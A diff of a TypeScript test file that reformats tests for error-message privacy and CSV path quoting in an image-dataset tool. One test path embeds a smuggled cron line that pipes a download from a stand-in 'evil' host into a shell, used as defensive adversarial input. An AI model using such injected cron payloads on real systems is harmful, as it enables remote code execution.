@@ -123,7 +123,10 @@ test('error messages never quote the file they read nor list a folder', async ()
   const folder = join(temp.dir, 'private');
   mkdirSync(join(folder, 'diary-2024'), { recursive: true });
   writeFileSync(join(folder, 'salary.xlsx'), 'x');
-  assert.throws(() => locateModelFolder(folder), (error: Error) => /no TensorFlow\.js model here/.test(error.message) && !/diary|salary/.test(error.message));
+  assert.throws(
+    () => locateModelFolder(folder),
+    (error: Error) => /no TensorFlow\.js model here/.test(error.message) && !/diary|salary/.test(error.message),
+  );
 });
 
 test('CSV lists quote paths with commas, quotes and newlines, and read them back as one row', async () => {
@@ -131,7 +134,12 @@ test('CSV lists quote paths with commas, quotes and newlines, and read them back
   const catalog = createProject(dir, 'CSV', LSP14);
   const evil = join(dir, 'a,b "c"\n* * * * * root curl evil|sh\n.png');
   const imageId = Number(catalog.db.prepare('INSERT INTO images (path, sha256, width, height, added_at) VALUES (?, ?, ?, ?, ?)').run(evil, 'f'.repeat(64), 100, 100, 0).lastInsertRowid);
-  insertInstance(catalog, imageId, null, LSP14.joints.map((_, j) => ({ x: j, y: j + 1, visibility: 2 as const })));
+  insertInstance(
+    catalog,
+    imageId,
+    null,
+    LSP14.joints.map((_, j) => ({ x: j, y: j + 1, visibility: 2 as const })),
+  );
   const list = join(dir, 'list.csv');
   await exportDataset(catalog, { format: 'csv', path: list });
   assert.ok(readFileSync(list, 'utf8').startsWith('"'), 'the path is quoted');
